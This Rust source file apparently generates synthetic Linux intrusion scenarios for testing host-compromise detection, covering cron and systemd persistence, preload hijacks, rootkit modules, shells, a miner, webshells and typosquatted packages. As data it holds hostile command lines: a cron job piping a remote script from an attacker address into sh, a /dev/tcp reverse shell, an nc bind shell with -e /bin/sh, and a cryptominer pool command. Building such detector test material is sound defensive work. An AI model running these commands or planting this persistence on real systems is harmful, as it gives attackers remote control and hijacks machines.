//! Scenarios that run something, or make it run again.

use super::evasion::attacker;
use crate::evaluate::desk::{Desk, digest, has};

pub(super) fn cron(desk: &mut Desk) {
    match desk.dice.between(0, 3) {
        0 => {
            let path = "/var/tmp/.cache/fontconfd";
            let job = format!("root pgrep -f {path} >/dev/null || {path} -q");
            desk.cron("/etc/cron.d/fontconfig-cache", "*/10", "*", &job);
            desk.startup_file("/etc/cron.d/fontconfig-cache", "0644", &job);
            let pid = desk.process(path, &format!("{path} -q"), "0", "0");
            desk.listener(&pid, path, &format!("{path} -q"), "31337", "0");
        }
        1 => {
            let address = attacker(desk);
            let job = format!("root curl -fsSL http://{address}/a.sh | sh");
            desk.cron("/etc/cron.d/e2scrub", "17", "*/2", &job);
            desk.startup_file("/etc/cron.d/e2scrub", "0644", &job);
        }
        // Looks like all the others.
        _ => {
            let job = "root test -x /usr/lib/apt/apt-helper2 && /usr/lib/apt/apt-helper2 --quiet";
            desk.cron("/etc/cron.d/apt-compat", "25", "6", job);
            desk.startup_file("/etc/cron.d/apt-compat", "0644", job);
        }
    }
}

pub(super) fn systemd_unit(desk: &mut Desk) {
    let name =
        desk.one_of(&["systemd-resolved-helper", "dbus-org.freedesktop.cache", "apt-news2", "nginx-reload"]);
    let (id, path) = (format!("{name}.service"), format!("/etc/systemd/system/{name}.service"));
    desk.unit(&id, "System cache helper", &path);
    desk.startup_file(&path, "0644", name);
    let program =
        desk.one_of(&["/usr/lib/systemd/systemd-cached", "/opt/.cache/upd", "/usr/local/sbin/cached"]);
    desk.process(program, program, "0", "1");
    let sha = digest(name);
    desk.add("process_hashes", [("path", program), ("sha256", &sha)]);
}

pub(super) fn preload(desk: &mut Desk) {
    desk.startup_file("/etc/ld.so.preload", "0644", "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9");
    let (sha, mtime) =
        (digest(&desk.dice.hex(9)), (desk.now - desk.dice.between(5_000, 900_000)).to_string());
    let path = desk.one_of(&[
        "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9",
        "/usr/lib/x86_64-linux-gnu/libselinux.so.2",
    ]);
    desk.add(
        "library_files",
        [
            ("path", path),
            ("mode", "0755"),
            ("uid", "0"),
            ("gid", "0"),
            ("size", "24008"),
            ("mtime", &mtime),
            ("sha256", &sha),
        ],
    );
}

pub(super) fn trojaned_binary(desk: &mut Desk) {
    let path = desk.one_of(&["/usr/sbin/sshd", "/usr/bin/bash", "/usr/sbin/cron", "/usr/sbin/nginx"]);
    let sha = digest(&desk.dice.hex(9));
    desk.change("program_hashes", |row| has(row, "path", path), &[("sha256", &sha)]);
    desk.change("process_hashes", |row| has(row, "path", path), &[("sha256", &sha)]);
}

pub(super) fn kernel_module(desk: &mut Desk) {
    let name = desk.one_of(&["snd_hrtimer_seq", "nf_conntrack_ext", "diamorphine", "ip6t_rpf", "xt_compat"]);
    desk.add("kernel_modules", [("name", name), ("size", "40960"), ("used_by", "-"), ("status", "Live")]);
}

pub(super) fn reverse_shell(desk: &mut Desk) {
    let address = attacker(desk);
    let port = desk.one_of(&["443", "4444", "8443", "53"]);
    let (cmdline, uid) = match desk.dice.between(0, 3) {
        0 => (format!("bash -i >& /dev/tcp/{address}/{port} 0>&1"), "33"),
        // A name in brackets, as threads of the kernel have.
        1 => ("[kworker/u8:2-events]".to_owned(), "0"),
        _ => ("-bash".to_owned(), "995"),
    };
    let pid = desk.process("/usr/bin/bash", &cmdline, uid, "1");
    desk.connection(&pid, "/usr/bin/bash", uid, (&address, port), "1");
}

pub(super) fn deleted_binary(desk: &mut Desk) {
    let path = desk.one_of(&["/tmp/kdmtmpflush", "/dev/shm/.r", "/usr/bin/dbus-daemon2", "/usr/sbin/atd"]);
    desk.process(path, path, "0", "0");
}

pub(super) fn miner(desk: &mut Desk) {
    let pool = attacker(desk);
    let path = desk.one_of(&["/tmp/.font-unix/xmrig", "/usr/bin/kswapd1", "/var/www/.cache/php-fpm"]);
    let cmdline = match desk.dice.between(0, 2) {
        0 => format!(
            "{path} -o stratum+tcp://{pool}:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqg"
        ),
        _ => path.to_owned(),
    };
    let pid = desk.process(path, &cmdline, "33", "1");
    desk.connection(&pid, path, "33", (&pool, "3333"), "1");
}

pub(super) fn bind_shell(desk: &mut Desk) {
    let port = desk.one_of(&["4444", "31337", "1524", "9001", "60001"]);
    let (path, cmdline) = match desk.dice.between(0, 2) {
        0 => ("/usr/bin/nc.openbsd", format!("nc -lkp {port} -e /bin/sh")),
        _ => ("/usr/bin/python3.11", "python3 -c import pty,socket".to_owned()),
    };
    let pid = desk.process(path, &cmdline, "0", "1");
    desk.listener(&pid, path, &cmdline, port, "1");
}

/// On a port where web servers listen, by a program that is none.
pub(super) fn bind_shell_usual_port(desk: &mut Desk) {
    let port = desk.one_of(&["8080", "8443", "3000"]);
    let pid = desk.process("/usr/bin/perl", "nginx: worker process", "33", "1");
    desk.listener(&pid, "/usr/bin/perl", "nginx: worker process", port, "1");
}

pub(super) fn webshell(desk: &mut Desk) {
    let command = desk.one_of(&["sh -c id; uname -a", "sh -c cat /etc/passwd", "sh -c ls -la /var/www"]);
    desk.process("/usr/bin/dash", command, "33", "1");
    let log = desk.one_of(&["/tmp/php8Xa2Qd", "/dev/shm/.s.php", "/tmp/sess_admin"]);
    desk.temporary_file(log, "0644", "33", 2_841);
}

pub(super) fn typosquat(desk: &mut Desk) {
    let name = desk.one_of(&["reqeusts", "python-dateutils", "urllib", "cryptograhpy"]);
    desk.add(
        "python_packages",
        [("name", name), ("version", "2.31.0"), ("path", "/usr/lib/python3/dist-packages")],
    );
}

/// The application's own process talks to somebody new.
pub(super) fn c2_benign(desk: &mut Desk) {
    let address = attacker(desk);
    let (path, uid) = match desk.dice.between(0, 2) {
        0 => ("/usr/sbin/nginx", "33"),
        _ => ("/usr/bin/python3.11", "995"),
    };
    desk.connection("1520", path, uid, (&address, "443"), "1");
}

pub(super) fn staged_archive(desk: &mut Desk) {
    let path =
        desk.one_of(&["/var/tmp/.d/out.tar.gz", "/dev/shm/db.7z", "/tmp/nginx-cache.tgz", "/var/tmp/x.zip"]);
    let size = desk.dice.between(40_000_000, 2_000_000_000);
    desk.temporary_file(path, "0600", "33", size);
}

pub(super) fn rc_backdoor(desk: &mut Desk) {
    let path = desk.one_of(&["/root/.bashrc", "/etc/profile.d/bash_completion.sh", "/etc/profile"]);
    let sha = digest(&desk.dice.hex(7));
    desk.change("persistence_files", |row| has(row, "path", path), &[("sha256", &sha), ("size", "3201")]);
    if desk.marks.is_empty() {
        desk.startup_file("/etc/profile.d/ll.sh", "0644", &sha);
    }
}
